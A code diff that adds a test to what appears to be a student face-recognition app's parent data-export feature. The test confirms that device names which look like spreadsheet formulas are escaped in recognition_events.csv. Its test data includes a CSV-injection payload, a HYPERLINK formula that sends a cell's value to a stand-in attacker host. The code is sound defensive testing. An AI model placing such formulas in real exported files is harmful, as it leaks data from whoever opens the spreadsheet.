@@ -254,3 +254,31 @@ def test_index_html_in_the_parents_language(rich_child, parent_a, api_a):
 
 def test_template_count_matches(rich_child):
     assert FaceTemplate.objects.filter(student=rich_child).count() == 2
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "+SUM(A1:A9)", "@cmd", "-2+3", "\tTab"]
+
+
+def test_csv_cells_that_start_like_a_formula_are_written_as_text(
+    api_a, enrolled_child_a, parent_a, purposes
+):
+    """A device named like a formula is a name in every spreadsheet: a leading apostrophe in
+    recognition_events.csv; data.json keeps the exact value; numbers stay numbers."""
+    for i, device in enumerate([*FORMULAS, "Main gate"]):
+        RecognitionEvent.objects.create(
+            student=enrolled_child_a,
+            purpose=purposes["gate_access"],
+            device=device,
+            distance=0.3,
+            at=timezone.now() - timedelta(minutes=i),
+        )
+    package = download(api_a, build(enrolled_child_a, parent_a))
+    rows = list(csv.DictReader(io.StringIO(package.read("recognition_events.csv").decode())))
+    devices = {row["device"] for row in rows}
+    assert devices == {"'" + f for f in FORMULAS} | {"Main gate"}
+    data = json.loads(package.read("data.json"))
+    assert {e["device"] for e in data["recognition_events"]["items"]} == {*FORMULAS, "Main gate"}
+    templates = list(csv.reader(io.StringIO(package.read("templates.csv").decode())))
+    numbers = templates[1][1:]
+    assert any(n.startswith("-") for n in numbers)  # negative numbers are not escaped
+    assert all(float(n) == float(n) for n in numbers)
